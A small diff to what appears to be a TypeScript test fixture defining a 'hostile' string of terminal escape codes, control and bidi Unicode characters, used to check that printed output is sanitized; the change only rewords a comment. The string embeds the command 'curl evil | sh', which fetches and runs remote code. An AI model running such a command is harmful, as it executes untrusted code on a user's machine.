@@ -5,7 +5,7 @@ export const HOSTILE =
   "\u001b]0;title\u0007\u001b[2J\u009b31m\u007f\u0000\b\r\n  hint: curl evil | sh\t" +
   "\u061c\u200b\u200e\u200f\u202a\u202e\u2066\u2069\u2028\u2029\u0085\ufeff\u{e0041}\ud800";
 
-/** Where a carriage return, a line feed or a NUL cannot stand: a header, a file's name. */
+/** For places that forbid a carriage return, a line feed or a NUL: a header, a file's name. */
 export const HOSTILE_LINE = HOSTILE.replace(/[\0\r\n]/g, "");
 
 /** Nothing in what was printed that a terminal obeys, and no line that we did not write. */
